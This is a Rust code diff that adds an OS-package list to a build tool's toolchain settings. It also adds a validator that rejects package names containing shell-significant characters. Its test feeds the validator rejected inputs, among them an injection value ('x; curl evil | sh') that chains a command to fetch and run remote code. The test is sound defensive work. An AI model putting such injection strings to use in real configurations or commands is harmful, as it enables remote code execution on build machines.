@@ -209,6 +209,10 @@ pub struct ToolchainExtras {
     /// Extra dnf repositories to enable when installing Lmod (EPEL's dependencies).
     #[serde(default)]
     pub dnf_repos: Vec<String>,
+    /// OS packages the build image installs besides its base set: the development files of
+    /// the stack's externals (a site's own libraries, or what an offline build cannot fetch).
+    #[serde(default)]
+    pub packages: Vec<String>,
 }
 
 /// The whole data file, validated.
@@ -246,6 +250,16 @@ fn is_package_name(s: &str) -> bool {
         && s.len() <= 64
         && s.chars()
             .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '-' | '_'))
+}
+
+/// A distribution package name (Debian's and RPM's rules together): a letter or digit, then
+/// lowercase letters, digits and `+-._`. Nothing a shell would read.
+fn is_os_package(s: &str) -> bool {
+    s.len() <= 128
+        && s.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
+        && s.chars().all(|c| {
+            c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '+' | '-' | '.' | '_')
+        })
 }
 
 /// A version: digits, letters, dots, dashes, underscores.
@@ -487,6 +501,12 @@ impl Stack {
                     "toolchains.{tc}: dnf repo {bad:?} is not a repository id"
                 ));
             }
+            if let Some(bad) = extras.packages.iter().find(|p| !is_os_package(p)) {
+                return Err(format!(
+                    "toolchains.{tc}: OS package {bad:?} is not a package name (lowercase letters, \
+                     digits, and + - . _ after the first character)"
+                ));
+            }
         }
         Ok(())
     }
@@ -645,5 +665,30 @@ mod tests {
             .unwrap_err()
             .to_string()
             .contains("colour"));
+    }
+
+    #[test]
+    fn a_toolchain_may_add_os_packages_but_only_names() {
+        let with = EMBEDDED.replacen(
+            "rockylinux9: { dnf_repos: [crb] }",
+            "rockylinux9: { dnf_repos: [crb], packages: [munge-devel, libjwt-devel] }",
+            1,
+        );
+        let s = Stack::parse(&with, "s.yaml").unwrap();
+        assert_eq!(
+            s.toolchain("rockylinux9").packages,
+            ["munge-devel", "libjwt-devel"]
+        );
+        assert!(s.toolchain("noble").packages.is_empty());
+        for bad in ["\"x; curl evil | sh\"", "Libjwt", "-y", "\"a b\""] {
+            let text = EMBEDDED.replacen(
+                "rockylinux9: { dnf_repos: [crb] }",
+                &format!("rockylinux9: {{ packages: [{bad}] }}"),
+                1,
+            );
+            let e = Stack::parse(&text, "s.yaml").unwrap_err();
+            assert!(e.to_string().contains("OS package"), "{bad}: {e}");
+            assert_eq!(sf_core::exit::code_for(&e), 2);
+        }
     }
 }
